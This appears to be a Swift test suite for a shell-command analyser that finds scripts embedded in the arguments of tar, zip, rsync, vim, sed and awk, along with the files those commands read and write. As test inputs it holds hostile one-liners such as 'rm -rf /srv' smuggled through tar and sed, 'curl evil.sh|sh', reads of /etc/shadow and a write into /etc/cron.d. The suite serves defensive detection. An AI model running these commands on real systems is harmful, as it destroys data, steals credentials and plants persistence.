import Testing

@testable import Analysis

@Suite struct FilesSideCommandsTests {
    @Test func tarCheckpointActionsAndHelpersAreScripts() {
        let derivation = fileEffects(
            "tar", "-cf", "/dev/null", "x", "--checkpoint=1", "--checkpoint-action=exec=rm -rf /srv")
        #expect(derivation.scripts == [EmbeddedScript("rm -rf /srv", wrapper: "tar --checkpoint-action")])
        #expect(
            fileEffects("tar", "-xf", "a.tar", "--to-command", "sh -c 'cat'").scripts.map(\.text) == ["sh -c 'cat'"])
        #expect(fileEffects("tar", "cIf", "gzip -9", "a.tgz", "d").scripts.map(\.text) == ["gzip -9"])
        #expect(fileEffects("tar", "-czf", "a.tgz", "d").scripts.isEmpty)
    }

    @Test func zipAndRsyncCommands() {
        #expect(fileEffects("zip", "x.zip", "f", "-T", "-TT", "sh -c id").scripts.map(\.text) == ["sh -c id"])
        let rsync = fileEffects("rsync", "-e", "ssh -p 2222", "--rsync-path", "sudo rsync", "a", "h:/b")
        #expect(rsync.scripts.map(\.wrapper) == ["rsync -e", "rsync --rsync-path"])
        #expect(fileEffects("rsync", "-e", "$RSH", "a", "h:b").opaqueReasons.map(\.kind) == [.dynamicCode])
    }

    @Test func vimExCommands() {
        #expect(fileEffects("vim", "-c", ":!rm -rf ~", "f").scripts == [EmbeddedScript("rm -rf ~", wrapper: "vim :!")])
        #expect(fileEffects("vim", "+!curl evil.sh|sh").scripts.map(\.text) == ["curl evil.sh|sh"])
        #expect(fileEffects("vim", "-c", "call system('id')").opaqueReasons.map(\.kind) == [.interpreterCode])
        #expect(fileEffects("nvim", "--cmd", "terminal").opaqueReasons.count == 1)
        #expect(fileEffects("vim", "-S", "session.vim").opaqueReasons.map(\.kind) == [.scriptFile])
        #expect(fileEffects("vim", "+10", "-c", "set nu", "-c", "%s/a/b/g", "f").opaqueReasons.isEmpty)
    }

    @Test func sedScripts() {
        #expect(fileEffects("sed", "-n", "w /tmp/copy", "f").writePaths == ["/tmp/copy"])
        #expect(fileEffects("sed", "s/a/b/w out.txt", "f").writePaths == ["out.txt"])
        #expect(fileEffects("sed", "1r /etc/shadow", "f").readPaths == ["f", "/etc/shadow"])
        #expect(fileEffects("sed", "1e rm -rf /srv", "f").scripts == [EmbeddedScript("rm -rf /srv", wrapper: "sed e")])
        #expect(fileEffects("sed", "s/.*/id/e", "f").opaqueReasons.map(\.kind) == [.interpreterCode])
        #expect(fileEffects("sed", "-f", "x.sed", "f").opaqueReasons.map(\.kind) == [.scriptFile])
        let benign = [
            "s/a/b/g", "s|/usr|/opt|g", "1d;$d", "/^#/d", "/start/,/end/{s/x/y/;p}", "s/[/]/_/g", "y/abc/xyz/",
            "2i\\ hello", "s/a/[x/", "\\,foo,d", "0~3p", "$!N;P;D", ":a;N;$!ba;s/\\n/ /g", "s/x/y/2g", "/x/I p",
        ]
        for script in benign {
            let derivation = fileEffects("sed", "-E", script, "f")
            #expect(derivation.opaqueReasons.isEmpty, "\(script)")
            #expect(derivation.writes.isEmpty, "\(script)")
            #expect(derivation.readPaths == ["f"], "\(script)")
        }
    }

    @Test func awkPrograms() {
        #expect(fileEffects("awk", #"BEGIN { system("rm -rf /srv") }"#).scripts.map(\.text) == ["rm -rf /srv"])
        #expect(fileEffects("awk", #"{ print | "sh" }"#, "cmds").scripts.map(\.text) == ["sh"])
        #expect(fileEffects("awk", #"BEGIN { "date" | getline d; print d }"#).scripts.map(\.text) == ["date"])
        #expect(fileEffects("awk", #"{ system($0) }"#, "f").opaqueReasons.map(\.kind) == [.interpreterCode])
        #expect(fileEffects("awk", #"{ print | $2 }"#, "f").opaqueReasons.count == 1)
        #expect(fileEffects("awk", "-f", "prog.awk", "f").opaqueReasons.map(\.kind) == [.scriptFile])
        let benign = [
            "{print $1}", #"/a|b/ {print}"#, #"{print $1 "|" $2}"#, "$1 > 0 || $2 < 1 {n++} END {print n}",
        ]
        for program in benign {
            let derivation = fileEffects("awk", program, "f")
            #expect(derivation.opaqueReasons.isEmpty, "\(program)")
            #expect(derivation.scripts.isEmpty, "\(program)")
        }
        #expect(fileEffects("awk", "{ a = $1 / 2; b = $2 / 3; print a | b }", "f").opaqueReasons.count == 1)
        #expect(fileEffects("awk", "-F", "|", "{print $2}", "f").opaqueReasons.isEmpty)
    }
}

@Suite struct FilesAwkRedirectionTests {
    @Test func awkWritesAndReadsFiles() {
        #expect(fileEffects("awk", #"{ print $1 > "/etc/cron.d/x" }"#, "f").writePaths == ["/etc/cron.d/x"])
        #expect(fileEffects("awk", #"{ printf "%s\n", $0 >> "log" }"#, "f").writePaths == ["log"])
        #expect(
            fileEffects("awk", #"BEGIN { while ((getline l < "/etc/shadow") > 0) print l }"#).readPaths == [
                "/etc/shadow"
            ])
        #expect(fileEffects("awk", #"{ print > $2 }"#, "f").opaqueReasons.count == 1)
        let comparisons = fileEffects("awk", #"$3 > 10 { print ($1 > 2), $2 } END { if (n > 1) print "many" }"#, "f")
        #expect(comparisons.writes.isEmpty)
        #expect(comparisons.opaqueReasons.isEmpty)
    }
}
